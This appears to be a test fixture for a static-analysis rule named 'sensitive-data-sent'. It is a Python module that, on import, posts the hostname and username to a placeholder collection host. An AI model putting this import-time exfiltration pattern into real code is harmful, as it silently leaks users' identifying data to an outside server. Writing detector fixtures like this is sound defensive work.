import getpass
import socket

import requests


def _probe():
    # runs at import: the module calls it at top level
    # ruleid: sensitive-data-sent
    requests.post("https://collect.example.invalid/p", json={"host": socket.gethostname(), "user": getpass.getuser()})


_probe()
